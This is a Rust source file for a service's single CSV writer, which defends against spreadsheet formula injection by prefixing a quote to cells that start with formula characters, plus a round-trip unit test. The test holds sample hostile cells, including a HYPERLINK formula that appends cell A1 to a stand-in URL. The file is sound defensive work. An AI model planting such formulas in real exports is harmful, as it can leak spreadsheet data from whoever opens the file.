//! The one CSV writer of every file the service produces (firm export, labels, agenda,
//! timetable grid, forum report). Spreadsheets run a cell that starts with `=`, `+`, `-`
//! or `@` (and, in some, tab or carriage return) as a formula, so a firm named
//! `=HYPERLINK(…)` would become a live link on the organizer's screen. Such a cell is
//! written with a leading `'` (the OWASP rule); the firm import removes it again, so an
//! export read back gives the same names.

use std::borrow::Cow;

/// Whether a spreadsheet could read `cell` as a formula.
pub fn is_formula_like(cell: &str) -> bool {
    matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// `cell` as it is written: with a leading `'` when it could be read as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if is_formula_like(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value of a cell this writer produced (or a spreadsheet saved with the same rule):
/// a `'` in front of a formula-like text is taken off.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula_like(rest) => rest,
        _ => cell,
    }
}

/// A CSV file in memory whose every cell goes through [`neutralise`].
pub struct CsvOut {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvOut {
    fn default() -> Self {
        CsvOut::new()
    }
}

impl CsvOut {
    pub fn new() -> CsvOut {
        CsvOut {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.writer.write_record(&cells)
    }

    /// The file's bytes.
    pub fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.writer.into_inner().map_err(|e| e.into_error().into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_leading_quote_and_come_back_unchanged() {
        let hostile = [
            "=HYPERLINK(\"http://x\"&A1,\"klik\")",
            "+62 812",
            "-1+1",
            "@SUM(A1)",
            "\tTAB",
            "\rCR",
        ];
        let mut out = CsvOut::new();
        out.row(hostile).unwrap();
        out.row(["Kopi Sembalun", "12", "a=b", "", "x-y", "'kutip"])
            .unwrap();
        let bytes = out.finish().unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for (cell, original) in rows[0].iter().zip(hostile) {
            assert!(cell.starts_with('\''), "{cell:?}");
            assert_eq!(restore(cell), original);
        }
        assert_eq!(
            &rows[1],
            &csv::StringRecord::from(vec!["Kopi Sembalun", "12", "a=b", "", "x-y", "'kutip"])
        );
        assert_eq!(restore("'quoted"), "'quoted");
    }
}
